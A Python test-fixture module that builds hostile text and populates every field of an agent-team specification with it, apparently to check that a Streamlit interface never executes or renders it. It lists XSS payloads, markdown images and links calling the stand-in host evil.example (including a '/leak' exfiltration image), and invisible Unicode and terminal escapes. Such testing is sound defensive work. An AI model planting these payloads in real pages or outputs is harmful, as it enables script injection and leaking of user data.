"""Text and teams as an attacker would write them. Whoever obeys any of it calls for help from `evil.example`, sets
`window.ran`, or shows a bomb."""

from __future__ import annotations

from core.team.spec import (
    AgentId,
    AgentSpec,
    Article,
    DelegateSpec,
    FunctionId,
    FunctionSpec,
    FunctionTest,
    HandoffSpec,
    ParameterSpec,
    ParameterType,
    ProfileSpec,
    ResultRow,
    TeamSpec,
)

HOST = "evil.example"

HTML = (
    "<script>window.ran='s'</script>",
    "<img src=hx onerror=\"window.ran='i'\">",
    f"<img src=//{HOST}/i>",
    f"<svg onload=\"window.ran='v'\"><image href='//{HOST}/v'/></svg>",
    f"<iframe src='//{HOST}/f' srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<style>@import '//{HOST}/c';*{{background:url(//{HOST}/b)}}</style>",
    f"<a href=\"javascript:window.ran='a'\" ping=//{HOST}>x</a>",
    f"\"><link rel=prefetch href=//{HOST}/p>'>",
    f"<form action=//{HOST}><button autofocus onfocus=\"window.ran='o'\">x</button></form>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/m'><base href=//{HOST}/>",
)
MARKDOWN = (
    f"![x](https://{HOST}/leak?q=1)",
    f"[x](https://{HOST}/link)",
    "[x](javascript:window.ran=1)",
    f"<https://{HOST}/auto>",
    f"https://{HOST}/bare www.{HOST} me@{HOST}",
    f"[r]: https://{HOST}/r 'x'",
    "![r]",
    ":material/bomb: :bomb: :red[zz] :rainbow[zz] :blue-background[zz] :red-badge[zz] :small[zz]",
    "$\\frac{1}{2}$ $$x$$ -> <- -- >= ~= :streamlit:",
    "**zz** `zz` ~~zz~~ <b>zz</b>",
)
INVISIBLE = "\u202etxet\u202c \u2066x\u2069 z\u200bz \ufeff \x1b[31mred\x1b]0;title\x07 \u2028 \U000e0041"

EVERYTHING = " ".join((*MARKDOWN, *HTML, INVISIBLE))
"""All hostile text on one line, beginning with what Streamlit's markdown interprets first."""

LINES = "\n\n".join((*MARKDOWN, *HTML, INVISIBLE, "```\n</code></pre><script>window.ran=1</script>\n```", "| a |\n|---|\n| ![x](//evil.example/t) |"))  # fmt: skip


def hostile(place: str) -> str:
    """Return hostile text that begins with the place it is used in, so that a failure shows its origin."""
    return f"{short(place)} {EVERYTHING}"


def short(place: str) -> str:
    """Return a shorter hostile text for places with a length limit, such as keys."""
    return f"{place} :bomb: **zz** ![x](//{HOST}/{place}) <img src=hx onerror=\"window.ran='{place}'\">"


def hostile_team(*functions: FunctionSpec) -> TeamSpec:
    """Return a valid team with hostile text in every text field of the file format."""
    one, two, three = AgentId("one"), AgentId("two"), AgentId("three")
    own = (_table(), _articles(), _coded(), *functions)
    return TeamSpec(
        hostile("team"),
        one,
        description=hostile("description"),
        icon="<b>:bomb:",
        agents=(
            AgentSpec(
                one,
                hostile("first"),
                description=hostile("about first"),
                icon="<i>",
                instructions=f"{hostile('instructions')} {{variable}}",
                model=hostile("model"),
                settings={"metadata": {short("setting"): hostile("value of setting")}},
                functions=tuple(function.id for function in own),
                handoffs=(HandoffSpec(two, hostile("when")),),
                delegates=(DelegateSpec(three, hostile("task")),),
            ),
            AgentSpec(
                two, hostile("second"), handoffs=(HandoffSpec(one, hostile("back")),), icon="![x](//evil.example)"
            ),
            AgentSpec(three, hostile("third"), instructions=LINES),
        ),
        functions=own,
        context={"variable": hostile("value"), short("key"): {short("inner"): [hostile("item"), LINES]}},
        profiles=(ProfileSpec(hostile("profile"), {"variable": hostile("value in profile")}),),
        starters=(hostile("starter"), "look up hostile"),
        demo=(hostile("demo"),),
    )


def _coded() -> FunctionSpec:
    """Return code with hostile text in its results, its output and its errors; its test fails."""
    text = LINES.replace('"', "'").replace("\\", "/")
    code = (
        f'def coded(query: str = "{short("default").replace(chr(34), "")}", choice: Literal["<b>:bomb:", "b"] = "b", context_variables=None):\n'
        f'    """{text}\n\n    Args:\n        query: {text}\n    """\n'
        f'    print("""{text}""")\n'
        f'    context_variables["variable"] = """{text}"""\n'
        f'    if query == "raise":\n        raise ValueError("""{text}""")\n'
        f'    return {{"""{text}""": ["""{text}"""]}}\n'
    )
    tests = (
        FunctionTest(hostile("test"), {"query": hostile("given")}, {"variable": hostile("was")}, hostile("wanted")),
    )
    return FunctionSpec(FunctionId("coded"), "coded", code=code, tests=tests)


def _table() -> FunctionSpec:
    return FunctionSpec(
        FunctionId("table"),
        "table",
        description=hostile("about table"),
        parameters=(
            ParameterSpec("query", ParameterType.STRING, hostile("about query"), required=False),
            ParameterSpec(short("parameter"), ParameterType.STRING, choices=(hostile("choice"), "b"), required=False),
        ),
        results=(
            ResultRow({"query": hostile("condition")}, error=hostile("error")),
            ResultRow({}, LINES, set={"variable": hostile("set"), "added": [hostile("added")]}),
        ),
    )


def _articles() -> FunctionSpec:
    return FunctionSpec(
        FunctionId("articles"),
        hostile("function"),
        parameters=(ParameterSpec("query", ParameterType.STRING, ""),),
        articles=(Article(hostile("title"), LINES),),
    )
